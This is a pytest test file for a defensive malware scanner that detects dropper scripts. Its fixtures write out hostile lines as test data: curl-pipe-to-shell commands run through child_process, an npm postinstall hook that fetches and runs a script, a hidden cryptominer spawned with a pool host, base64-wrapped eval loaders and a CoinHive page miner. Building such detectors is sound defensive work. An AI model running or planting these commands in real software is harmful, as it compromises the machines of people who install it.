"""Authored droppers are found at medium or above by ``minehunt scan files``; the machine's
own maintainer and system scripts, admin scripts and registry installers stay below."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from minehunt import dropper, intel
from minehunt.model import Severity
from minehunt.web.signals import target_for
from tests.conftest import REPO, run_cli

POSITIVE = REPO / "tests" / "corpus" / "dropper" / "positive"
BENIGN = REPO / "tests" / "corpus" / "dropper" / "benign"
IT = intel.default()
MAINTAINER = ("preinst", "postinst", "prerm", "postrm", "config")


def _severity(path: Path) -> Severity | None:
    """The severity the script analysis gives ``path`` (None: nothing reported)."""
    sigs = dropper.file_signals(target_for(str(path)), path.read_bytes(), IT, str(path))
    scored = [s for s in sigs if not dropper.is_context(s)]
    return max((s.severity for s in scored if s.severity), default=None)


def test_scan_files_finds_every_authored_dropper_at_medium_or_above(tmp_path: Path) -> None:
    res = run_cli("scan", "files", str(POSITIVE), "--format", "json")
    assert res.code == 1, res.stderr
    by_path = {Path(f.target.path or "").name: f for f in res.report.findings}
    scripts = sorted(p.name for p in POSITIVE.iterdir())
    missing = [n for n in scripts if n not in by_path]
    assert not missing, missing
    weak = {n: by_path[n].severity for n in scripts if by_path[n].severity < Severity.MEDIUM}
    assert not weak, weak
    # The behaviours are evidence of the finding, and their ATT&CK techniques are listed.
    f = by_path["hide_rootkit.sh"]
    ids = {e.check_id for e in f.evidence}
    assert {"MH-SCRIPT-001", "MH-SCRIPT-012", "MH-SCRIPT-015"} <= ids
    assert "T1574.006" in f.attack
    wallets = by_path["wallets.txt"]
    assert wallets.check_id == "MH-SCRIPT-002" and wallets.severity == Severity.MEDIUM


def _maintainer_scripts() -> list[Path]:
    info = Path("/var/lib/dpkg/info")
    return sorted(p for p in info.iterdir() if p.suffix.lstrip(".") in MAINTAINER)


def _shell_scripts(d: str) -> list[Path]:
    out = []
    for p in sorted(Path(d).iterdir()):
        try:
            if p.is_symlink() or not p.is_file():
                continue
            with open(p, "rb") as fh:
                head = fh.read(64)
        except OSError:
            continue
        first = head.split(b"\n", 1)[0]
        if first.startswith(b"#!") and first.rstrip().endswith((b"sh", b"bash", b"dash")):
            out.append(p)
    return out


def test_every_dpkg_maintainer_script_stays_below_medium() -> None:
    scripts = _maintainer_scripts()
    assert len(scripts) > 100
    flagged = {str(p): s for p in scripts if (s := _severity(p)) and s >= Severity.MEDIUM}
    assert not flagged, flagged


def test_every_shell_script_in_usr_bin_stays_below_medium() -> None:
    scripts = _shell_scripts("/usr/bin")
    assert len(scripts) > 20
    flagged = {str(p): s for p in scripts if (s := _severity(p)) and s >= Severity.MEDIUM}
    assert not flagged, flagged


def test_authored_admin_scripts_stay_below_medium() -> None:
    res = run_cli("scan", "files", str(BENIGN), "--format", "json")
    assert res.code in (0, 1), res.stderr
    loud = [
        (f.target.path, f.severity) for f in res.report.findings if f.severity >= Severity.MEDIUM
    ]
    assert not loud, loud


@pytest.fixture(scope="module")
def registry_installers(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Shell installers shipped in registry packages: the `n` node version manager (npm,
    a bash script that picks a build per architecture, downloads and installs it) and
    virtualenv's activation scripts for bash and PowerShell (PyPI)."""
    d = tmp_path_factory.mktemp("installers")
    subprocess.run(
        ["npm", "pack", "n@10.2.0", "--silent", "--pack-destination", str(d)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "download",
            "--no-deps",
            "-q",
            "--only-binary",
            ":all:",
            "virtualenv==20.26.6",
            "-d",
            str(d),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    out = d / "x"
    for archive in d.iterdir():
        if archive.suffix == ".tgz":
            with tarfile.open(archive) as tf:
                tf.extractall(out, filter="data")
        elif archive.suffix == ".whl":
            with zipfile.ZipFile(archive) as zf:
                zf.extractall(out)
    wanted = ("n", "activate", "activate.ps1", "activate.sh", "activate.bat")
    return [p for p in out.rglob("*") if p.is_file() and (p.name in wanted or p.suffix == ".sh")]


def test_registry_installers_stay_below_medium(registry_installers: list[Path]) -> None:
    names = {p.name for p in registry_installers}
    assert {"n", "activate.sh", "activate.ps1"} <= names, names
    flagged = {
        str(p): s for p in registry_installers if (s := _severity(p)) and s >= Severity.MEDIUM
    }
    assert not flagged, flagged


JS_INSTALLERS = ("esbuild@0.24.0", "@puppeteer/browsers@2.4.0", "node-gyp@10.2.0", "pm2@5.4.2")


@pytest.fixture(scope="module")
def javascript_installers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """npm packages whose JavaScript fetches programs and starts them through child_process,
    as installers and process managers do: esbuild (fetches its platform binary),
    @puppeteer/browsers (downloads, unpacks and launches browsers), node-gyp (downloads
    headers, runs make), pm2 (starts, kills and daemonises programs, writes startup units)."""
    d = tmp_path_factory.mktemp("js-installers")
    subprocess.run(
        ["npm", "pack", *JS_INSTALLERS, "--silent", "--pack-destination", str(d)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    out = d / "x"
    for archive in d.glob("*.tgz"):
        with tarfile.open(archive) as tf:
            tf.extractall(out / archive.stem, filter="data")
    return out


def test_javascript_installers_and_process_managers_stay_below_medium(
    javascript_installers: Path,
) -> None:
    res = run_cli(
        "scan", "files", str(javascript_installers), "--format", "json", "--min-severity", "info"
    )
    assert res.code in (0, 1), res.stderr
    loud = [
        (f.target.path, f.severity) for f in res.report.findings if f.severity >= Severity.MEDIUM
    ]
    assert not loud, loud
    # An import of downloadFile and, lines later, `const start = ...` are no PowerShell
    # download-and-start (the TypeScript source was a low dropper finding).
    installs = sorted(javascript_installers.glob("puppeteer-browsers-*/package/**/install.[jt]s"))
    assert len(installs) >= 2, installs
    flagged = {str(p): s for p in installs if (s := _severity(p))}
    assert not flagged, flagged


def test_javascript_is_read_as_a_dropper_when_it_can_start_programs(tmp_path: Path) -> None:
    """A Node dropper hands its shell commands to child_process as strings; the same string
    in JavaScript that starts nothing (a help text) is left to the website checks."""
    help_text = 'const cmd = "curl -fsSL http://203.0.113.9/i.sh | sh";\n'
    (tmp_path / "help.js").write_text(help_text + "console.log(`install: ${cmd}`);\n")
    (tmp_path / "run.mjs").write_text(
        'import { execSync } from "node:child_process";\n' + help_text + "execSync(cmd);\n"
    )
    res = run_cli("scan", "files", str(tmp_path), "--format", "json", "--min-severity", "info")
    by_name = {Path(f.target.path or "").name: f for f in res.report.findings}
    assert "help.js" not in by_name
    run = by_name["run.mjs"]
    assert {"MH-SCRIPT-001", "MH-SCRIPT-010"} <= {e.check_id for e in run.evidence}
    verdict = next(e for e in run.evidence if e.check_id == "MH-SCRIPT-001")
    assert verdict.attributes["language"] == "javascript"


def test_typescript_takes_the_javascript_gate_and_a_shebang_overrides_the_name(
    tmp_path: Path,
) -> None:
    """TypeScript is JavaScript with types: read when it can start programs, left alone when
    it only quotes a command (a type declaration). A file that starts with ``#!`` is a
    script whatever it is named: a shell dropper saved as ``.js`` is still read."""
    cmd = "curl -fsSL http://203.0.113.9/i.sh | sh"
    (tmp_path / "types.d.ts").write_text(f'export declare const INSTALL: "{cmd}";\n')
    (tmp_path / "setup.ts").write_text(
        'import { execSync } from "node:child_process";\n'
        f'const cmd: string = "{cmd}";\nexecSync(cmd);\n'
    )
    shell = (POSITIVE / "fetch_cron_hidden.sh").read_text()
    assert shell.startswith("#!")
    (tmp_path / "jquery.min.js").write_text(shell)
    res = run_cli("scan", "files", str(tmp_path), "--format", "json", "--min-severity", "info")
    by_name = {Path(f.target.path or "").name: f for f in res.report.findings}
    assert "types.d.ts" not in by_name
    verdict = next(e for e in by_name["setup.ts"].evidence if e.check_id == "MH-SCRIPT-001")
    assert verdict.attributes["language"] == "typescript"
    assert "MH-SCRIPT-010" in {e.check_id for e in by_name["setup.ts"].evidence}
    disguised = by_name["jquery.min.js"]
    assert disguised.severity >= Severity.MEDIUM
    assert "MH-SCRIPT-001" in {e.check_id for e in disguised.evidence}


def test_javascript_that_evaluates_a_decoded_blob_is_read_as_a_dropper(tmp_path: Path) -> None:
    """Wrapped in base64, the dropper's child_process is out of sight: evaluating a decoded
    blob is reason enough to decode it and read what it runs."""
    inner = (POSITIVE / "npm_install.js").read_text()
    blob = base64.b64encode(inner.encode()).decode()
    (tmp_path / "install.js").write_text(f'eval(Buffer.from("{blob}", "base64").toString());\n')
    (tmp_path / "loader.js").write_text(f"new Function(atob('{blob}'))();\n")
    res = run_cli("scan", "files", str(tmp_path), "--format", "json")
    assert res.code == 1, res.stderr
    by_name = {Path(f.target.path or "").name: f for f in res.report.findings}
    for name in ("install.js", "loader.js"):
        f = by_name[name]
        assert f.severity >= Severity.MEDIUM, (name, f.severity)
        assert "MH-SCRIPT-001" in {e.check_id for e in f.evidence}


def test_deno_and_bun_process_apis_count_as_starting_programs() -> None:
    from minehunt.files.worker import starts_programs

    assert starts_programs(b'const p = new Deno.Command("sh", { args: ["-c", cmd] });')
    assert starts_programs(b"await Bun.$`curl -fsSL ${url} | sh`;")
    assert starts_programs(b'import { spawn } from "node:child_process";')
    assert not starts_programs(b"const text = await Deno.readTextFile(path); myDeno.run();")


def test_a_module_loaded_by_a_split_name_counts_as_starting_programs(tmp_path: Path) -> None:
    from minehunt.files.worker import starts_programs

    assert starts_programs(b'const { spawn } = require("node:ch" + "ild_process");')
    assert not starts_programs(b'const x = require("./a") + require("./b");')
    # And `scan files` then reads its calls: split strings fold before they are read.
    (tmp_path / "setup.js").write_text(
        'const cp = require("child_" + "process");\n'
        'const fs = require("f" + "s");\n'
        'const bin = "/dev/shm/" + ".x";\n'
        "fs.chmodSync(bin, 0o755);\n"
        'cp.spawn(bin, ["-o", "192.0.2.4:3333", "--donate-level", "1"], { detached: true });\n'
    )
    res = run_cli("scan", "files", str(tmp_path), "--format", "json")
    (f,) = res.report.findings
    assert f.severity >= Severity.MEDIUM
    assert {"MH-SCRIPT-019", "MH-SCRIPT-022"} <= {e.check_id for e in f.evidence}


def _package(scripts: dict[str, str]) -> str:
    return json.dumps({"name": "util-pack", "version": "1.0.3", "scripts": scripts}, indent=2)


def test_a_package_install_hook_that_runs_a_dropper_command_is_medium(tmp_path: Path) -> None:
    fetch = "curl -fsSL http://203.0.113.9/setup.sh | sh"
    for name, scripts in {
        "hook": {"test": "node test.js", "postinstall": fetch},
        "preinstall": {"preinstall": "nohup /tmp/.npm/helper >/dev/null 2>&1 &"},
        "not-a-hook": {"test": fetch},  # run by hand, not at install: the command alone
        "local-file": {"postinstall": "node install.js"},
    }.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "package.json").write_text(_package(scripts))
    res = run_cli("scan", "files", str(tmp_path), "--format", "json")
    by_dir = {Path(f.target.path or "").parent.name: f for f in res.report.findings}
    for name in ("hook", "preinstall"):
        f = by_dir[name]
        assert f.severity >= Severity.MEDIUM, (name, f.severity)
        hook = [e for e in f.evidence if e.check_id == "MH-SCRIPT-024"]
        assert hook and "install" in hook[0].summary
        verdict = next(e for e in f.evidence if e.check_id == "MH-SCRIPT-001")
        assert verdict.summary.startswith("npm package script")
        assert "T1195.002" in f.attack
    assert by_dir["not-a-hook"].severity == Severity.LOW
    assert "MH-SCRIPT-024" not in {e.check_id for e in by_dir["not-a-hook"].evidence}
    assert "local-file" not in by_dir


def test_a_dropper_that_names_a_pool_host_is_reported_as_a_dropper(tmp_path: Path) -> None:
    # The pool host is also what the website checks look for (MH-WEB-001, "browser-miner
    # host"); a file that starts a hidden miner with it is a dropper all the same, and a
    # page script that names a browser-miner host and evaluates a decoded blob (which the
    # script analysis reads too) stays a browser miner.
    (tmp_path / "install.js").write_text(
        'const { spawn } = require("child_process");\n'
        'const bin = "/tmp/.cache/kworker";\n'
        'spawn(bin, ["-o", "pool.supportxmr.com:443", "--donate-level", "1"],'
        " { detached: true }).unref();\n"
    )
    loader = base64.b64encode(
        b"var m = new CoinHive.Anonymous('SITE_KEY_0123456789abcdef', {throttle: 0.3});"
        b"m.start();" + b" " * 200
    ).decode()
    (tmp_path / "page.js").write_text(
        'document.write("<script src=https://coinhive.com/lib/coinhive.min.js>");\n'
        f'eval(atob("{loader}"));\n'
    )
    res = run_cli("scan", "files", str(tmp_path), "--format", "json")
    by_name = {Path(f.target.path or "").name: f for f in res.report.findings}
    dropped = by_name["install.js"]
    assert (dropped.check_id, dropped.title) == ("MH-SCRIPT-001", "Dropper script behaviours")
    named = next(e for e in dropped.evidence if e.check_id == "MH-WEB-001")
    assert "pool.supportxmr.com" in named.summary
    assert {"MH-WEB-001", "MH-SCRIPT-019", "MH-SCRIPT-022"} <= {
        e.check_id for e in dropped.evidence
    }
    assert dropped.severity >= Severity.HIGH
    page = by_name["page.js"]
    assert page.check_id.startswith("MH-WEB-"), page.check_id
